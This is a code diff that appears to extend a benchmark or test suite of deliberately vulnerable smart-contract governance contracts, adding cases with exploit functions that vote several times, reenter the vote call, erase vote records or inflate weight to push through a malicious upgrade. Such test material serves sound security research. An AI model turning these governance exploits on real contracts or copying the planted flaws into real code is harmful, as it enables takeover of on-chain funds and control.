@@ -33,17 +33,30 @@ const voted =
     controlledBy(chain, await chain.deploy(name, ...(token === undefined ? [] : [await chain.deploy(token)])))
 /** Proposes the upgrade, votes and executes it. */
 const pass =
-  (vote: string, args: readonly unknown[], before?: (attack: Attack) => Promise<readonly unknown[]>, times = 1) =>
+  (
+    vote: string,
+    args: readonly unknown[],
+    before?: (attack: Attack) => Promise<readonly unknown[]>,
+    times = 1,
+    afterVote?: () => Promise<void>,
+  ) =>
   async (attack: Attack, built: Built): Promise<void> => {
     const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
     const data = upgradeCall(built.address, attack.code)
     const more = (await before?.(attack)) ?? []
     await attack.send(controller, 'propose(address,bytes)', [target, data])
-    for (let n = 0; n < times; n += 1)
+    for (let n = 0; n < times; n += 1) {
       await attack.send(controller, vote, [proposal(target, data), true, ...args, ...more])
+      await afterVote?.()
+    }
     await attack.wait(700_000)
     await attack.send(controller, 'execute(address,bytes)', [target, data])
   }
+/** Gives itself a weight first. */
+const passWithNote = async (attack: Attack, built: Built): Promise<void> => {
+  await attack.send(part(built, 'controller'), 'note(uint256)', [10n ** 30n])
+  await pass('vote(bytes32,bool)', [])(attack, built)
+}
 const proposal = (target: Hex, data: Hex): Hex =>
   keccak256(`0x${callData('f(address,bytes)', [target, data]).slice(10)}`)
 
@@ -150,6 +163,70 @@ const drafts: readonly Draft[] = [
     cause: 'lying getter',
     build: voted('ManyVotesBallots', 'OneEach'),
     exploit: pass('vote(bytes32,bool)', [], undefined, 3),
+  },
+  {
+    name: 'a vote with one memo is not recorded',
+    by: 'anyone',
+    cause: 'lying getter',
+    build: voted('UnrecordedBallots', 'OneEach'),
+    exploit: pass('vote(bytes32,bool,uint256)', [7n], undefined, 3),
+  },
+  {
+    name: 'the caller says how often its vote counts',
+    by: 'anyone',
+    cause: 'lying getter',
+    build: voted('RepeatedBallots', 'OneEach'),
+    exploit: pass('vote(bytes32,bool,uint256)', [3n]),
+  },
+  {
+    name: 'a voter may vote again before its vote is recorded',
+    by: 'anyone',
+    cause: 'lying getter',
+    build: voted('ToldBallots', 'OneEach'),
+    exploit: async (attack, built) => {
+      const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
+      const data = upgradeCall(built.address, attack.code)
+      await attack.send(controller, 'propose(address,bytes)', [target, data])
+      const voter = await attack.deploy('Reentering')
+      await attack.send(voter, 'start(address,bytes32,uint256)', [controller, proposal(target, data), 3n])
+      await attack.wait(700_000)
+      await attack.send(controller, 'execute(address,bytes)', [target, data])
+    },
+  },
+  {
+    name: 'the record of a vote can be removed',
+    by: 'anyone',
+    cause: 'lying getter',
+    build: voted('ForgettingBallots', 'OneEach'),
+    exploit: async (attack, built) => {
+      const controller = part(built, 'controller')
+      const id = proposal(part(built, 'admin'), upgradeCall(built.address, attack.code))
+      await pass('vote(bytes32,bool)', [], undefined, 3, () => attack.send(controller, 'forget(bytes32)', [id]))(
+        attack,
+        built,
+      )
+    },
+  },
+  {
+    name: 'the receipt of a vote does not contain that there was one',
+    by: 'anyone',
+    cause: 'lying getter',
+    build: voted('ReceiptBallots', 'OneEach'),
+    exploit: pass('vote(bytes32,bool)', [], undefined, 3),
+  },
+  {
+    name: 'a library weighs votes by the storage of the governor',
+    by: 'anyone',
+    cause: 'lying getter',
+    build: voted('LibraryBallots', 'StoredWeights'),
+    exploit: passWithNote,
+  },
+  {
+    name: 'a library weighs votes by the storage of the governor, asked in assembly',
+    by: 'anyone',
+    cause: 'lying getter',
+    build: voted('LibraryWordBallots', 'StoredWeights'),
+    exploit: passWithNote,
   },
   {
     name: 'the key of a queued operation does not cover the call',
